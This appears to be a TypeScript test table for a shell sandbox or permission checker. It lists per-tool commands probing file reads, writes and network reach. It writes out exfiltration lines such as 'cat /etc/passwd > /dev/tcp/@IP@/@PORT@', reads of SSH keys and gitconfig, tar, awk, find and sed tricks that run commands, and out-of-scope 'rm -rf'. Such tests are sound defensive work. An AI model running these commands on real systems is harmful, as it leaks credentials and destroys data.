import { byFile, byScript, row, type Row } from "./row.ts";
import { SHELL } from "./snippets.ts";

const SIZE = "4321";
const BASE64 = "cGxhbnRlZC1rZXkt";
/** Sources and lists of its own: nothing of the machine is used or changed. */
const OWN_APT =
  "-o Debug::NoLocking=1 -o Dir::Etc::sourcelist=/dev/null -o Dir::Etc::sourceparts=/dev/null -o Dir::State=$PWD/apt -o Dir::Cache=$PWD/apt";
const TCP = "/dev/tcp/@IP@/@PORT@";

/** Starts a server in the background and returns when it listens. */
const serving = (port: number) =>
  `node server.mjs ${port} > server.log 2>&1 & until grep -q listening server.log; do sleep 0.05; done`;

/** Programs of the system, and what the shell does by itself. */
export const SHELL_ROWS: readonly Row[] = [
  row(
    ["oc-002", "curl"],
    {
      read: "curl -s file://@KEY@",
      write: 'curl -s "file://$PWD/package.json" -o @OUT@',
      reach: ["curl -s @URL@/health", "curl -s @NAMED@/health", "curl -s --noproxy '*' @URL@"],
    },
    { before: serving(3000), says: "served /health" },
  ),
  row(["oc-004", "tar"], {
    read: "tar cPf - @KEY@",
    write: "tar czf @OUT@ src",
    reach: "tar czf x.tgz --checkpoint=1 --checkpoint-action=exec='sh ./twin-reach.sh' src",
  }),
  row(["oc-008", "wc"], { read: { command: "wc -c @KEY@", shows: SIZE } }, { says: "total" }),
  row(
    ["oc-011", "cat"],
    { read: "cat @KEY@", write: "cat package.json > @OUT@", reach: `cat package.json > ${TCP}` },
    { says: "demo" },
  ),
  row(
    ["oc-024", "cat"],
    { read: "cat /var/log/../..@KEY@", write: "cat a.txt >> @KEEP@", reach: `cat a.txt > ${TCP}` },
    { exit: [0, 1] },
  ),
  row(["oc-029", "cat"], {
    read: "cat <<EOF\n$(cat @KEY@)\nEOF",
    write: "cat <<'EOF' > @OUT@\nhi\nEOF",
    reach: `cat <<'EOF' > ${TCP}\nhi\nEOF`,
  }),
  row(["oc-030", "whoami"], {}),
  row(
    ["oc-032", "xargs"],
    { read: "xargs -n1 echo < @KEY@", write: "echo @OUT@ | xargs touch", reach: "echo @URL@ | xargs curl -s" },
    { says: "3" },
  ),
  row(["oc-036", "diff"], { read: "diff @KEY@ /dev/null" }, { exit: [1], says: "> bb" }),
  row(
    ["oc-037", "curl"],
    {
      read: "curl -L file://@KEY@ -o x.tgz && cat x.tgz",
      write: 'curl -L "file://$PWD/a.txt" -o @OUT@',
      reach: [
        "curl -L @URL@/archive/main.tar.gz -o x.tgz",
        "curl -L @NAMED@/x -o x.tgz",
        "curl -L --noproxy '*' @URL@ -o x.tgz",
      ],
    },
    // The host is not there where the tests run: refused, unknown or out of time.
    { exit: [0, 5, 6, 7, 22, 28, 35, 56, 60, 97] },
  ),
  row(["oc-050", "tar"], {
    read: "tar xzf x.tgz --to-command='sh ./twin-read.sh'",
    write: "tar xzf x.tgz -P --transform='s,.*,@OUT@,' src/x.ts",
    reach: "tar xzf x.tgz --to-command='sh ./twin-reach.sh'",
  }),
  row(["oc-051", "bash"], byScript("command -v node; command %"), { says: "node" }),
  row(
    ["oc-053", "wget"],
    {
      read: "wget --tries=1 --timeout=2 -i @KEY@",
      write: "wget -q --tries=1 -O @OUT@ http://127.0.0.1:1/",
      reach: ["wget -qO- --tries=1 @URL@/x.tgz", "wget -qO- --tries=1 --no-proxy @URL@/x.tgz"],
    },
    { exit: [0, 4, 5, 8] },
  ),
  row(["oc-054", "rm"], { write: "rm -rf @OUTSIDE@" }),
  row(
    ["oc-056", "cat"],
    { read: "cat /etc/passwd @KEY@", write: "cat /etc/passwd > @OUT@", reach: `cat /etc/passwd > ${TCP}` },
    { says: "root:" },
  ),
  row(
    ["oc-057", "curl"],
    {
      read: "curl file://@KEY@",
      write: 'curl "file://$PWD/a.txt" -o @OUT@',
      reach: ["curl @URL@", "curl -x '' @URL@"],
    },
    { exit: [0, 5, 6, 7, 22, 28, 35, 56, 60, 97] },
  ),
  row(["oc-066", "openssl"], {
    read: { command: "openssl enc -base64 -in @KEY@", shows: BASE64 },
    write: "openssl rand -out @OUT@ 16",
    reach: "openssl s_client -connect @IP@:@PORT@ < /dev/null",
  }),
  row(["oc-067", "mv"], { read: "mv @KEY@ b.txt && cat b.txt", write: "mv a.txt @OUT@" }),
  row(
    ["oc-068", "tail"],
    { read: "tail -n 99 @KEY@", write: "tail a.txt > @OUT@", reach: `tail a.txt > ${TCP}` },
    { until: "a line of the log" },
  ),
  row(
    ["oc-069", "unzip"],
    { read: "unzip -p @KEYS@/keys.zip", write: "unzip -o x.zip -d @OUT@" },
    { says: "inside.txt" },
  ),
  row(["oc-070", "ps"], { process: { command: "ps aux", shows: "@NAP@" } }, { exit: [0, 1] }),
  row(
    ["oc-071", "bash"],
    {
      read: 'while read l; do echo "$l"; done < @KEY@',
      write: 'while read l; do echo "$l"; done < a.txt > @OUT@',
      reach: `while read l; do echo "$l"; done < a.txt > ${TCP}`,
    },
    { says: "3" },
  ),
  row(["oc-073", "lsof"], { process: { command: "lsof -p @PID@", shows: "sleep" } }, { exit: [0, 1] }),
  row(["oc-074", "bash"], byScript("type node; %"), { says: "node" }),
  row(["oc-078", "rm"], { write: "rm @KEEP@" }),
  row(["oc-080", "bash"], { process: "sleep 1 & kill %1; kill @PID@ && echo killed" }, { exit: [1] }),
  row(
    ["oc-081", "bash"],
    {
      read: 'for i in $(< @KEY@); do echo "$i"; done',
      write: "for i in 1; do echo $i > @OUT@; done",
      reach: `for i in 1; do echo $i > ${TCP}; done`,
    },
    { says: "3" },
  ),
  row(["oc-082", "ls"], { read: { command: "ls -l @KEYS@", shows: SIZE } }, { says: "passwd" }),
  row(["oc-095", "touch"], { write: "mkdir -p @OUT@ && touch @OUT@/y.ts" }),
  row(["oc-097", "apt-get"], byScript(`apt-get ${OWN_APT} -o APT::Update::Pre-Invoke::="cd '$PWD'; %" update`), {
    exit: [100],
  }),
  row(
    ["oc-103", "cat"],
    { read: "cat ~/.gitconfig ~/.ssh/id_planted", write: "cat a.txt > ~/outside/new", reach: `cat a.txt > ${TCP}` },
    { says: "name = " },
  ),
  row(
    ["oc-104", "awk"],
    {
      read: "awk '{print}' @KEY@",
      write: "awk '{print > \"@OUT@\"}' a.txt",
      reach: "awk 'BEGIN {system(\"sh ./twin-reach.sh\")}'",
    },
    { says: "6" },
  ),
  row(
    ["oc-105", "base64"],
    {
      read: { command: "base64 -w0 @KEY@", shows: BASE64 },
      write: "base64 -d <<< aGk= > @OUT@",
      reach: `base64 -d <<< aGk= > ${TCP}`,
    },
    { says: "hi" },
  ),
  row(["oc-107", "grep"], { read: "grep -rn planted @KEYS@ --include=id_*" }, { says: "src/x.ts" }),
  row(["oc-116", "bash"], byFile("scripts/x.sh", SHELL), { says: "ran x.sh" }),
  row(
    ["oc-117", "curl"],
    {
      read: { command: "curl -sS http://127.0.0.1:8080/api -d @@KEY@; cat @KEY@" },
      write: "curl -sS file:///etc/passwd -o @OUT@",
      reach: ["curl -sS @URL@/api -d @package.json", "curl -sS -T package.json @URL@/api"],
    },
    { before: serving(8080), says: "served /api" },
  ),
  row(["oc-118", "rm"], { write: "rm src/../../../outside/keep.txt" }),
  row(["oc-131", "cat"], {
    read: "cat > x.txt < @KEY@; cat x.txt",
    write: "cat > @OUT@ <<EOF\nhi $USER\nEOF",
    reach: `cat > ${TCP} <<EOF\nhi\nEOF`,
  }),
  row(
    ["oc-132", "find"],
    {
      read: "find @KEYS@ -name 'id_*' | xargs grep planted",
      write: "find src -name '*.ts' -fprint @OUT@",
      reach: "find src -maxdepth 0 -exec sh ./twin-reach.sh ';'",
    },
    { says: "src/x.ts" },
  ),
  row(["oc-133", "sh"], byFile("scripts/build.sh", SHELL), { says: "ran build.sh" }),
  row(["oc-134", "bash"], { process: "kill @PID@ && echo killed" }, { exit: [1] }),
  row(["oc-135", "which"], {}, { says: "node" }),
  row(["oc-136", "find"], {
    read: "find @KEYS@ -name 'id_*' -exec sed -n p {} +",
    write: [
      "find src -name '*.ts' -exec sed -n 'w @OUT@' {} +",
      "find @OUTSIDE@ -name '*.txt' -exec sed -i s/kept/changed/ {} +",
    ],
    reach: "find a.txt -exec sed '1e sh ./twin-reach.sh' {} +",
  }),
  row(["oc-140", "date"], { read: "date -f @KEY@" }),
  row(
    ["oc-129", "jq"],
    { read: "jq -R . @KEY@", write: "jq . package.json > @OUT@", reach: `jq . package.json > ${TCP}` },
    { says: "test" },
  ),
];
